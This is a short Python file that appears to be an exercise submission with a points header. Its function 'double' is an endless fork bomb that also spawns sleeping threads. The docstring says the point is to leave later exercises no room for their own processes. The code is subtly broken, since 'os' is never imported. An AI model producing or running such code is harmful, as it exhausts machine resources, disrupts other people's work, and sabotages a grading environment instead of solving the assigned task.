"""Forks without end, and threads without end: later exercises must find room for their own processes."""

# points: double=0..4, rest=0..15
# %% double
import threading
import time


def double(x):
    while True:
        try:
            if os.fork() == 0:
                threading.Thread(target=time.sleep, args=(60,)).start()
        except (OSError, RuntimeError):
            time.sleep(0.01)
